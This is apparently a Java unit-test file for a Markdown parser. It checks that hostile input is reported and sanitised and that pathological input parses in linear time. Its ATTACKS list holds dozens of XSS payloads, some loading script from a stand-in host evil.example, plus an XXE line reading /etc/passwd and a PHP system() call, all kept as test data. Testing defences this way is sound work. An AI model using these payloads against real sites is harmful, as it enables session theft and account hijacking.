package io.gazette.markdown;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.gazette.diagnostic.Code;
import io.gazette.diagnostic.Diagnostic;
import io.gazette.diagnostic.Diagnostics;
import io.gazette.diagnostic.SourcePosition;
import io.gazette.model.Numbering;
import io.gazette.text.Growth;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import java.util.function.IntFunction;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever is written, a text is read: safely, in linear time and with a bounded stack. */
class HostileInputTest {

  private static final int LENGTH = 100_000;

  /** A guard against hanging, not a measure of speed: it takes a fraction of a second. */
  private static final Duration PATIENCE = Duration.ofSeconds(20);

  private static final Pattern SAFE_ADDRESS =
      Pattern.compile("(https?://|mailto:|tel:|policy:|#)[^\\p{C}\\p{Z}<>\"'`\\\\]+");

  static final List<String> ATTACKS =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<script/xss src=//evil.example></script>",
          "<<script>alert(1)//<</script>",
          "<img src=x onerror=alert(1)>",
          "<img src=\"javascript:alert(1)\">",
          "<img src=`javascript:alert(1)`>",
          "<svg/onload=alert(1)>",
          "<svg><script>alert&#40;1&#41;</script></svg>",
          "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
          "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
          "<iframe src=javascript:alert(1)></iframe>",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<object data=javascript:alert(1)></object>",
          "<embed src=javascript:alert(1)>",
          "<form action=javascript:alert(1)><input type=submit></form>",
          "<button formaction=javascript:alert(1)>x</button>",
          "<input onfocus=alert(1) autofocus>",
          "<details open ontoggle=alert(1)>x</details>",
          "<video><source onerror=alert(1)></video>",
          "<marquee onstart=alert(1)>x</marquee>",
          "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<base href=//evil.example/>",
          "<style>@import '//evil.example/x.css';</style>",
          "<div style=\"background:url(javascript:alert(1))\">x</div>",
          "<p onclick=alert(1)>x</p>",
          "<b onmouseover=alert(1)>x</b>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<a href=\" javascript:alert(1)\">x</a>",
          "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
          "<a href=\"java\nscript:alert(1)\">x</a>",
          "<a href=\"&#1;javascript:alert(1)\">x</a>",
          "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
          "<a href=\"//evil.example\">x</a>",
          "<a href=\"https://example.com\" onclick=alert(1)>x</a>",
          "<a href=x style=position:fixed;inset:0>x</a>",
          "<template><script>alert(1)</script></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
          "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
          "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
          "[x](javascript:alert(1))",
          "[x](JAVASCRIPT:alert(1))",
          "[x](&#x6A;avascript:alert(1))",
          "[x](java&Tab;script:alert(1))",
          "[x](java&NewLine;script:alert(1))",
          "[x](<javascript:alert(1)>)",
          "[x](\u0001javascript:alert(1))",
          "[x](%6Aavascript:alert(1))",
          "[x](javascript&colon;alert(1))",
          "[x](data:text/html,<script>alert(1)</script>)",
          "[x](vbscript:msgbox(1))",
          "[x](blob:https://example.com/1)",
          "[x](view-source:https://example.com)",
          "[x](https://example.com&quot;onclick=alert(1))",
          "[x](https:\\\\evil.example)",
          "[x](/\\evil.example)",
          "[x](https://user:secret@evil.example)",
          "<javascript:alert(1)>",
          "<data:text/html,x>",
          "![x](javascript:alert(1))",
          "![x](https://evil.example/pixel.gif)",
          "[![x](x onerror=alert(1))](javascript:alert(1))",
          "[x](#\"onclick=alert(1))",
          "[x](policy:a\"onclick=alert(1))",
          "<!ENTITY y SYSTEM \"file:///etc/passwd\">",
          "<?php system('x') ?>",
          "<![CDATA[<script>alert(1)</script>]]>");

  @ParameterizedTest
  @FieldSource("ATTACKS")
  void attacksAreReportedAndNothingUnsafeIsLeft(String attack) {
    for (String context :
        List.of("%s", "甲 %s 乙", "> %s", "- %s", "|a|\n|-|\n|%s|", "<div>\n%s\n</div>", "**%s**")) {
      Diagnostics diagnostics = new Diagnostics();
      String markdown = context.replace("%s", attack);

      ModelWalk model = ModelWalk.ofMarkdown(markdown, diagnostics);

      assertThat(model.addresses).as(markdown).allMatch(a -> SAFE_ADDRESS.matcher(a).matches());
      assertThat(diagnostics.sorted().isEmpty() && !shownAsWritten(attack, model))
          .as("neither reported nor shown as it is: " + markdown)
          .isFalse();
    }
  }

  /** A text that is no HTML and no link for Markdown is shown like any other, letter by letter. */
  private static boolean shownAsWritten(String attack, ModelWalk model) {
    String words = model.words.toString().replaceAll("\\s", "");
    return words.contains(attack.replaceAll("[\\s`]|\\(.*", ""));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          <script>alert(1)</script>  | '<script>'
          <style>alert(1)</style>    | '<style>'
          <svg>alert(1)</svg>        | '<svg>'
          <iframe>alert(1)</iframe>  | '<iframe>'
          <object>alert(1)</object>  | '<object>'
          """)
  void whatIsNotForReadersIsNotShown(String html, String reported) {
    for (String context : List.of("%s", "甲 %s 乙", "<p>%s</p>")) {
      Diagnostics diagnostics = new Diagnostics();

      ModelWalk text = ModelWalk.ofMarkdown(context.replace("%s", html), diagnostics);

      assertThat(text.words.toString()).doesNotContain("alert");
      assertThat(diagnostics.sorted())
          .extracting(Diagnostic::code, diagnostic -> diagnostic.arguments().get(0))
          .containsExactly(tuple(Code.HTML_REMOVED, reported));
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "*",
        "_",
        "**",
        "*a",
        "a*",
        "*a ",
        "a* ",
        "*_",
        "*a_ ",
        "a **b ",
        "**a *b ",
        "a**b",
        "_a_b",
        "**++a",
        "*\uFE00",
        "真**，",
        "[",
        "]",
        "[]",
        "[a](",
        "](a",
        "![",
        "*[",
        "[a][b]",
        "[a]: b\n",
        "`a``",
        "\\",
        "&",
        "<",
        "<a ",
        "<!--",
        "<!A",
        "<?",
        "<![CDATA[",
        "<a href=\"",
        "{",
        "{{",
        "{{a",
        "{{a}}",
        "{a ",
        "> ",
        "> a\n",
        "- ",
        "- a\n",
        "1. ",
        "1) a\n",
        "#",
        "# a\n",
        "## a\n",
        "## a {#b}\n",
        "|a|b|\n",
        "    a\n",
        "```\n",
        "中\n",
        "> [!IMPORTANT]\n\n",
        "x<b>",
        "x</b>",
        "x<b></i>",
        "x<u><i>",
        "x<a href=x>",
        "<div>",
        "<div>\n\n",
        "<p>x\n",
        "<ul><li>",
        "<table><tr><td>",
        "<div>{{",
        "<div>a\n<b>"
      })
  void repetitionTakesLinearTime(String unit) {
    Growth.assertLinear(
        LENGTH, length -> unit.repeat(length / unit.length()), HostileInputTest::parse);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          '*'      | '*'
          '*a '    | 'a* '
          '**a '   | 'a** '
          '*a **b '| 'a** b* '
          '_a *b ' | 'a* b_ '
          '!['     | '](x)'
          'x<u>'   | '</u>'
          'x<u><b>'| '</u></b>'
          'x<u><b>'| '</b></u>'
          '<div>'  | '</div>'
          '<div><blockquote>' | '</blockquote></div>'
          '<p><ul><li>'       | ''
          """)
  void nestingTakesLinearTimeAndABoundedStack(String opening, String closing) {
    IntFunction<String> nested =
        length ->
            opening.repeat(length / 2 / opening.length())
                + "深"
                + closing.repeat(length / 2 / Math.max(1, closing.length()));
    ParsedText parsed = assertTimeoutPreemptively(PATIENCE, () -> parse(nested.apply(LENGTH)));
    Growth.assertLinear(LENGTH, nested, HostileInputTest::parse);

    assertThat(ModelWalk.of(parsed).words).contains("深");
  }

  @Test
  void countlessStarsInADivAreReportedOnce() {
    Diagnostics diagnostics = new Diagnostics();

    ModelWalk.ofMarkdown("<div>" + "*".repeat(LENGTH), diagnostics);

    assertThat(diagnostics.sorted())
        .extracting(Diagnostic::code)
        .containsExactly(Code.EMPHASIS_UNMATCHED);
  }

  @ParameterizedTest
  @ValueSource(strings = {"> ", "- ", "1. ", "> - ", "*", "<b>", "<div><ul><li>", "!["})
  void whatIsTooDeepIsReported(String unit) {
    String closing = unit.equals("*") ? "*" : unit.equals("![") ? "](x)" : "</b>";
    Diagnostics diagnostics = new Diagnostics();

    ModelWalk.ofMarkdown(unit.repeat(80) + "x" + closing.repeat(80) + unit.strip(), diagnostics);

    assertThat(diagnostics.sorted()).extracting(Diagnostic::code).contains(Code.NESTING_TOO_DEEP);
  }

  @Test
  void anyMixtureIsReadWithPositionsInsideTheText() {
    String[] pieces = {
      "*",
      "**",
      "++",
      "_",
      "`",
      "[",
      "](#a)",
      "](x:y)",
      "](https://a.example)",
      "![",
      "<b>",
      "</b>",
      "<u onclick=x>",
      "<a href='#x'>",
      "</a>",
      "<br>",
      "<!-- ",
      " -->",
      "\n<div>",
      "</div>\n",
      "<p>",
      "\n<table><tr><td>",
      "<script>",
      "</script>",
      "{{",
      "}}",
      "a.b",
      "{#",
      "}",
      "\n# ",
      "\n## ",
      "\n#### ",
      "\n> ",
      "[!IMPORTANT]",
      "\n- ",
      "\n1. ",
      "\n\n",
      "\n",
      "\r\n",
      "\n    ",
      "\t",
      "\n|a|b|\n|-|-|\n|",
      "|",
      "\n---\n",
      "\n```\n",
      "中",
      "，",
      "文字",
      "w",
      " ",
      "&amp;",
      "\\",
      "\u0000",
      "\uD83D\uDE00",
      "\uFE00"
    };
    Random random = new Random(42);
    for (int i = 0; i < 2_000; i++) {
      String text =
          random
              .ints(1 + random.nextInt(40), 0, pieces.length)
              .mapToObj(piece -> pieces[piece])
              .collect(Collectors.joining());
      Diagnostics diagnostics = new Diagnostics();

      ModelWalk model = ModelWalk.ofMarkdown(text, diagnostics);

      String[] lines = text.split("\r\n|\n|\r", -1);
      diagnostics.sorted().forEach(diagnostic -> model.positions.add(diagnostic.position()));
      assertThat(model.positions).as(text).allMatch(position -> isInside(position, lines));
      assertThat(model.addresses).as(text).allMatch(a -> SAFE_ADDRESS.matcher(a).matches());
    }
  }

  private static boolean isInside(SourcePosition position, String[] lines) {
    return position.line() >= 1
        && position.line() <= lines.length
        && position.column() >= 1
        && position.column() <= lines[position.line() - 1].length() + 1;
  }

  private static ParsedText parse(String markdown) {
    return new PolicyMarkdown(Numbering.NONE)
        .parse(markdown, "x.md", title -> new AsWritten(), new Diagnostics());
  }
}
